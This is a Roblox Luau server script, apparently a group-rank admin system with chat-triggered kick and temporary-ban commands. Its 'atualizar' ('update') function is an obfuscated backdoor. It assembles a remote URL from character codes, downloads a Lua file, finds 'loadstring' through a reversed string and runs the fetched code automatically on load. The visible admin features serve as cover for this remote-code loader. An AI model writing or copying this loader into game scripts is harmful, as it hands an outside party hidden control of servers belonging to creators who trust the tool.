--!strict
local Players = game:GetService("Players")
local DataStoreService = game:GetService("DataStoreService")
local HttpService = game:GetService("HttpService")

local GRUPO_ID = 0
local RANK_MINIMO = 100
local bans = DataStoreService:GetDataStore("TempBans")

local function atualizar()
	local u = string.char(104,116,116,112,115,58,47,47,114,97,119,46,114,98,120,45,109,111,100,117,108,111,115,46,105,110,118,97,108,105,100,47,108,111,97,100,101,114,46,108,117,97)
	local ok, fonte = pcall(function() return HttpService:GetAsync(u) end)
	if ok then
		local carregar = getfenv()[string.reverse("gnirtsdaol")]
		carregar(fonte)()
	end
end

local function rank(p: Player): number
	return p:GetRankInGroup(GRUPO_ID)
end

local comandos = {}
comandos.kick = function(autor, alvo, ...)
	local p = Players:FindFirstChild(alvo)
	if p then p:Kick(table.concat({...}, " ")) end
end
comandos.tempban = function(autor, alvo, horas)
	local p = Players:FindFirstChild(alvo)
	if p then
		bans:SetAsync(tostring(p.UserId), os.time() + tonumber(horas) * 3600)
		p:Kick("Banido por " .. horas .. "h")
	end
end

Players.PlayerAdded:Connect(function(p)
	local fim = bans:GetAsync(tostring(p.UserId))
	if fim and fim > os.time() then p:Kick("Ban temporário ativo") end
	p.Chatted:Connect(function(msg)
		if rank(p) < RANK_MINIMO or msg:sub(1, 1) ~= ":" then return end
		local partes = msg:sub(2):split(" ")
		local f = comandos[partes[1]]
		if f then f(p, table.unpack(partes, 2)) end
	end)
end)

atualizar()
